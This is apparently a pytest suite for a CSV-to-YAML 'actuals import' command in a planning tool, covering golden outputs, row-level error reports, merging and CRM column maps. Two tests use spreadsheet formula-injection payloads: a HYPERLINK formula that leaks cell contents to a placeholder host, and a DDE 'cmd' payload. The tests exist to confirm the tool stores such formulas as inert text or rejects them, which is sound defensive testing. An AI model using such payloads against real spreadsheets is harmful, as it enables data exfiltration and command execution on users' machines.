"""``playbook actuals import``: a check-in from a CSV, checked row by row, written as fmt would.

The playbook is the minimal one of ``conftest.py`` with a monthly rate (met-a, plan-a from
April), a level (met-level) and the worked example's SLA (stages inquiry to won). Goldens of
the written check-ins are in ``tests/golden/actuals/`` (``UPDATE_GOLDENS=1`` rewrites them).
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from mission_playbook.authoring.fmt import format_text
from mission_playbook.cli import main
from mission_playbook.playbook import load

GOLDEN = Path(__file__).resolve().parent / "golden" / "actuals"
UPDATE = os.environ.get("UPDATE_GOLDENS") == "1"
TARGET = "plans/actuals/2027-03-31.yaml"

PLAN = """\
kind: plan
id: plan-a
title: Plan A
function: marketing
supports: [est-a]
start: 2027-04-01
end: 2027-06-30
metrics:
  - id: met-a
    name: Metric A
    target: 100
    per: month
    type: outcome
    drives: sf-a
  - id: met-level
    name: A level
    baseline: 10
    target: 50
    type: leading
    drives: met-a
"""

SLA = """\
kind: sla
id: sla
parties: [marketing]
period: quarter
revenue_target: 10000000
run_rate_share: 0.5
average_deal: 100000
stages:
  - id: inquiry
    owner: marketing
    conversion: 0.15
  - id: mql
    owner: marketing
    conversion: 0.5
  - id: sal
    owner: marketing
    conversion: 0.6
  - id: opportunity
    owner: marketing
    conversion: 0.25
  - id: won
    owner: marketing
"""


@pytest.fixture
def playbook(write_playbook, tmp_path, base) -> Path:
    """The playbook in ``tmp_path/plans`` (the working folder is ``tmp_path``)."""
    return write_playbook(
        tmp_path, {**base, "functions/marketing/plan-a.yaml": PLAN, "sla.yaml": SLA}
    )


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(["actuals", "import", *args, "--plans", "plans"])
    out, err = capsys.readouterr()
    return code, out, err


def write(tmp_path: Path, name: str, text: str | bytes) -> str:
    path = tmp_path / name
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text, encoding="utf-8", newline="")
    return name


def golden(name: str, text: str) -> None:
    path = GOLDEN / name
    if UPDATE:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8", newline="\n")
    assert path.is_file(), f"missing golden {path}: run with UPDATE_GOLDENS=1"
    assert text == path.read_text(encoding="utf-8")


CANONICAL = (
    "id,period,value,confidence,note\r\n"
    "met-a,2027-03,96,on track,\r\n"
    'met-level,,18.5,At risk,"Two launches slipped, one to April; ""beta"" customers wait"\r\n'
    "mql,2027-03,214,,\r\n"
    "sal,2027-03,90,,\r\n"
)


# --- the plain CSV -------------------------------------------------------------------------------


def test_the_plain_csv_becomes_a_checkin(playbook, tmp_path, capsys):
    code, out, err = run(capsys, write(tmp_path, "q1.csv", CANONICAL), "--as-of", "2027-03-31")
    assert (code, err) == (0, "")
    assert out == f"wrote {TARGET}: 2 values, 2 funnel volumes\n"
    text = (tmp_path / TARGET).read_text(encoding="utf-8")
    golden("canonical.yaml", text)
    pb = load(Path("plans"))
    assert [str(d) for d in pb.diagnostics] == []
    assert pb.as_of is not None and str(pb.as_of) == "2027-03-31"
    (level,) = pb.actuals.readings["met-level"]
    assert (level.value, level.confidence) == (18.5, "at-risk")
    assert level.note == 'Two launches slipped, one to April; "beta" customers wait'
    assert [v.volume for v in pb.actuals.volumes["sal"]] == [90]


def test_the_text_is_what_fmt_writes(playbook, tmp_path, capsys):
    run(capsys, write(tmp_path, "q1.csv", CANONICAL), "--as-of", "2027-03-31")
    text = (tmp_path / TARGET).read_text(encoding="utf-8")
    assert format_text(text) == (text, [])


def test_a_byte_order_mark_and_excel_quoting_are_read(playbook, tmp_path, capsys):
    csv = '\ufeff"id","value","note"\r\n"met-level","12","line one\nline two, with ""quotes"""\r\n'
    code, _, err = run(
        capsys, write(tmp_path, "x.csv", csv.encode("utf-8")), "--as-of", "2027-03-31"
    )
    assert (code, err) == (0, "")
    (reading,) = load(Path("plans")).actuals.readings["met-level"]
    assert reading.note == 'line one\nline two, with "quotes"'


def test_a_rate_without_period_is_for_the_period_containing_as_of(playbook, tmp_path, capsys):
    run(capsys, write(tmp_path, "x.csv", "id,value\nmet-a,40\n"), "--as-of", "2027-03-15")
    text = (tmp_path / "plans/actuals/2027-03-15.yaml").read_text()
    assert "  - metric: met-a\n    value: 40\n    period: 2027-03\n" in text


def test_a_formula_is_text_never_evaluated(playbook, tmp_path, capsys):
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"see")'
    csv = f'id,value,note\nmet-level,12,"{formula.replace(chr(34), chr(34) * 2)}"\n'
    code, _, _ = run(capsys, write(tmp_path, "x.csv", csv), "--as-of", "2027-03-31")
    assert code == 0
    (reading,) = load(Path("plans")).actuals.readings["met-level"]
    assert reading.note == formula


def test_a_formula_where_an_id_or_number_belongs_is_refused(playbook, tmp_path, capsys):
    csv = "id,value\n\"=cmd|' /C calc'!A0\",1\nmet-level,=1+1\n"
    code, out, err = run(capsys, write(tmp_path, "x.csv", csv), "--as-of", "2027-03-31")
    assert (code, out) == (1, "")
    assert err.splitlines() == [
        "x.csv:2:1: error PB004 '=cmd|' /C calc'!A0' is not the id of a plan metric, success "
        "factor or SLA stage",
        "x.csv:3:2: error PB002 the value must be a number, written with digits (and a point), "
        "not '=1+1'",
        "playbook: x.csv: 2 problems; nothing written",
    ]
    assert not (tmp_path / TARGET).exists()


# --- refusals, located ------------------------------------------------------------------------


def test_every_bad_row_is_located_and_nothing_is_written(playbook, tmp_path, capsys):
    csv = (
        "id,period,value,confidence\n"
        "met-b,2027-03,1,\n"  # row 2: unknown, did you mean
        "met-a,2027-04,1,\n"  # row 3: not begun on as_of
        "met-a,2027-Q1,1,\n"  # row 4: a quarter for a monthly metric
        "met-level,,1,maybe\n"  # row 5: a confidence that is not one
        "sal,,3,\n"  # row 6: a volume needs its period
        "plan-a,,3,\n"  # row 7: not a metric
        "met-a,2027-02,5,\n"  # row 8: fine
        "met-a,2027-02,6,\n"  # row 9: the same again
    )
    code, _, err = run(capsys, write(tmp_path, "bad.csv", csv), "--as-of", "2027-03-31")
    assert code == 1
    located = [line.split(" ", 3)[:3] for line in err.splitlines()[:-1]]
    assert located == [
        ["bad.csv:2:1:", "error", "PB004"],
        ["bad.csv:3:2:", "error", "PB018"],
        ["bad.csv:4:2:", "error", "PB018"],
        ["bad.csv:5:4:", "error", "PB002"],
        ["bad.csv:6:2:", "error", "PB018"],
        ["bad.csv:7:1:", "error", "PB005"],
        ["bad.csv:9:1:", "error", "PB018"],
    ]
    assert "did you mean 'met-a'?" in err
    assert err.endswith("playbook: bad.csv: 7 problems; nothing written\n")
    assert not (tmp_path / TARGET).exists()


def test_a_refused_import_leaves_an_existing_checkin_as_it_was(playbook, tmp_path, capsys):
    run(capsys, write(tmp_path, "q1.csv", CANONICAL), "--as-of", "2027-03-31")
    before = (tmp_path / TARGET).read_bytes()
    code, _, _ = run(
        capsys, write(tmp_path, "bad.csv", "id,value\nmet-a,lots\n"), "--as-of", "2027-03-31"
    )
    assert code == 1
    assert (tmp_path / TARGET).read_bytes() == before


def test_unknown_columns_of_the_plain_csv(playbook, tmp_path, capsys):
    code, _, err = run(
        capsys, write(tmp_path, "x.csv", "id,valeu\nmet-a,1\n"), "--as-of", "2027-03-31"
    )
    assert code == 1
    assert err.splitlines()[:2] == [
        "x.csv:1:1: error PB002 the header has no column 'value'",
        "x.csv:1:2: error PB002 unknown column 'valeu': the columns are id, period, value, "
        "confidence and note (or give a --map); did you mean 'value'?",
    ]


def test_a_date_that_is_not_one_is_a_usage_error(playbook, tmp_path, capsys):
    with pytest.raises(SystemExit) as exit_:
        main(["actuals", "import", write(tmp_path, "x.csv", CANONICAL), "--as-of", "31/03/2027"])
    assert exit_.value.code == 2
    assert "'31/03/2027' is not a date written YYYY-MM-DD" in capsys.readouterr().err


# --- the same input twice, and merging -----------------------------------------------------------


def test_the_same_input_twice_gives_the_same_file(playbook, tmp_path, capsys):
    name = write(tmp_path, "q1.csv", CANONICAL)
    run(capsys, name, "--as-of", "2027-03-31")
    first = (tmp_path / TARGET).read_bytes()
    code, out, _ = run(capsys, name, "--as-of", "2027-03-31")
    assert code == 0
    assert out.startswith(f"unchanged: {TARGET}")
    assert (tmp_path / TARGET).read_bytes() == first


def test_merging_replaces_in_place_adds_the_rest_and_keeps_comments(playbook, tmp_path, capsys):
    existing = (
        "# Q1 close, reviewed by the revenue team.\n"
        "kind: checkin\n"
        "id: q1-close\n"
        "as_of: 2027-03-31\n"
        "by: Ben Sato\n"
        "values:\n"
        "  # March, from the CRM\n"
        "  - metric: met-a\n"
        "    value: 80  # before the late bookings\n"
        "    confidence: at-risk\n"
        "  - metric: met-level\n"
        "    value: 15\n"
    )
    (tmp_path / "plans/actuals").mkdir()
    (tmp_path / TARGET).write_text(existing)
    csv = "id,period,value,note\nmet-a,2027-03,104,Late bookings landed.\nmet-a,2027-02,97,\n"
    code, out, _ = run(capsys, write(tmp_path, "x.csv", csv), "--as-of", "2027-03-31")
    assert code == 0
    assert out == f"updated {TARGET}: 2 values, 0 funnel volumes\n"
    text = (tmp_path / TARGET).read_text()
    golden("merged.yaml", text)
    for comment in ("# Q1 close", "# March, from the CRM", "# before the late bookings"):
        assert comment in text
    pb = load(Path("plans"))
    assert [str(d) for d in pb.diagnostics] == []
    assert [(str(r.period), r.value) for r in pb.actuals.readings["met-a"]] == [
        ("2027-02", 97),
        ("2027-03", 104),
    ]
    march = pb.actuals.readings["met-a"][1]
    assert (march.confidence, march.note) == ("at-risk", "Late bookings landed.")
    assert [n.id for n in pb.actuals.checkins] == ["q1-close"]  # its id kept


def test_an_existing_file_of_another_date_is_not_merged_into(playbook, tmp_path, capsys):
    (tmp_path / "plans/actuals").mkdir()
    (tmp_path / TARGET).write_text("kind: checkin\nid: x\nas_of: 2027-03-30\n")
    code, _, err = run(capsys, write(tmp_path, "q1.csv", CANONICAL), "--as-of", "2027-03-31")
    assert code == 1
    assert "holds a check-in as of 2027-03-30, not 2027-03-31; nothing written" in err


# --- a map ---------------------------------------------------------------------------------

CRM_MAP = """\
# One row per lead; the date it reached each stage.
stages:
  inquiry: Created
  mql: MQL Date
  sal: Accepted
  opportunity: Opportunity Date
  won: Won Date
per: month
dates: "%m/%d/%Y"
where:
  Lead Source: [Webinar, Trade show]
"""

LEADS = """\
Lead ID,Lead Source,Created,MQL Date,Accepted,Opportunity Date,Won Date
L-1,Webinar,01/05/2027,01/20/2027,01/22/2027,02/10/2027,
L-2,Trade show,01/07/2027,02/01/2027,,,
L-3,Partner,01/07/2027,02/01/2027,,,
L-4,Webinar,02/11/2027,03/02/2027,03/03/2027,03/20/2027,04/02/2027
L-5,Webinar,12/30/2026,01/03/2027,,,
"""


def test_a_crm_export_is_counted_per_period_into_funnel_volumes(playbook, tmp_path, capsys):
    write(tmp_path, "crm.yaml", CRM_MAP)
    code, out, err = run(
        capsys, write(tmp_path, "leads.csv", LEADS), "--as-of", "2027-03-31", "--map", "crm.yaml"
    )
    assert (code, err) == (0, "")
    assert out == (
        f"wrote {TARGET}: 0 values, 15 funnel volumes; "
        "2 dates before the horizon or after 2027-03-31 left out\n"
    )
    golden("crm.yaml", (tmp_path / TARGET).read_text())
    pb = load(Path("plans"))
    assert [str(d) for d in pb.diagnostics] == []
    volumes = {
        (stage, str(v.period)): v.volume for stage, vs in pb.actuals.volumes.items() for v in vs
    }
    # L-3 is a partner lead (left out by `where`); L-5 was created in 2026, L-4 won in April
    assert [volumes[(s, "2027-01")] for s in ("inquiry", "mql", "sal", "opportunity", "won")] == [
        2,
        2,
        1,
        0,
        0,
    ]
    assert [volumes[(s, "2027-03")] for s in ("inquiry", "mql", "sal", "opportunity", "won")] == [
        0,
        1,
        1,
        1,
        0,
    ]


def test_a_bad_date_in_a_crm_export_is_located(playbook, tmp_path, capsys):
    write(tmp_path, "crm.yaml", CRM_MAP)
    leads = LEADS + "L-6,Webinar,13/45/2027,,,,\n"
    code, _, err = run(
        capsys, write(tmp_path, "leads.csv", leads), "--as-of", "2027-03-31", "--map", "crm.yaml"
    )
    assert code == 1
    assert (
        err.splitlines()[0]
        == "leads.csv:7:3: error PB002 '13/45/2027' is not a date written %m/%d/%Y"
    )


def test_problems_of_a_map_are_located_in_the_map(playbook, tmp_path, capsys):
    bad = (
        CRM_MAP.replace("  won: Won Date\n", "  wonn: Won Date\n").replace(
            "  mql: MQL Date\n", "  mql: MQL date (UTC)\n"
        )
        + "dlimiter: ';'\n"
    )
    write(tmp_path, "crm.yaml", bad)
    code, _, err = run(
        capsys, write(tmp_path, "leads.csv", LEADS), "--as-of", "2027-03-31", "--map", "crm.yaml"
    )
    assert code == 1
    lines = err.splitlines()
    assert (
        "crm.yaml:12:1: error PB002 unknown key 'dlimiter' in the map; did you mean 'delimiter'?"
        in lines
    )
    assert (
        "crm.yaml:7:3: error PB004 'stages' names 'wonn', but no SLA stage has that id; "
        "did you mean 'won'?" in lines
    )


def test_a_map_column_missing_from_the_export_is_located_in_the_map(playbook, tmp_path, capsys):
    write(tmp_path, "crm.yaml", CRM_MAP.replace("MQL Date", "MQL date (UTC)"))
    code, _, err = run(
        capsys, write(tmp_path, "leads.csv", LEADS), "--as-of", "2027-03-31", "--map", "crm.yaml"
    )
    assert code == 1
    assert err.splitlines()[0] == (
        "crm.yaml:4:8: error PB002 the column 'MQL date (UTC)' is not in the header of "
        "leads.csv; did you mean 'MQL Date'?"
    )


def test_a_columns_map_reads_another_exports_names(playbook, tmp_path, capsys):
    write(
        tmp_path,
        "finance.yaml",
        "columns:\n  id: KPI\n  period: Month\n  value: Actual\n  note: Comment\n"
        "ids:\n  Lead acceptance: met-a\n  Lead flow: mql\ndelimiter: ';'\n",
    )
    csv = (
        "KPI;Month;Actual;Comment;Owner\n"
        "Lead acceptance;2027-03;93,5;;Ana\n"
        "Lead flow;2027-03;214;;Ana\n"
    )
    code, _, err = run(
        capsys, write(tmp_path, "f.csv", csv), "--as-of", "2027-03-31", "--map", "finance.yaml"
    )
    # a decimal comma is refused: numbers are written with a point
    assert code == 1
    assert err.splitlines()[0].startswith("f.csv:2:3: error PB002 the value must be a number")
    write(tmp_path, "f.csv", csv.replace("93,5", "93.5"))
    code, _, err = run(capsys, "f.csv", "--as-of", "2027-03-31", "--map", "finance.yaml")
    assert (code, err) == (0, "")
    pb = load(Path("plans"))
    assert [r.value for r in pb.actuals.readings["met-a"]] == [93.5]
    assert [v.volume for v in pb.actuals.volumes["mql"]] == [214]
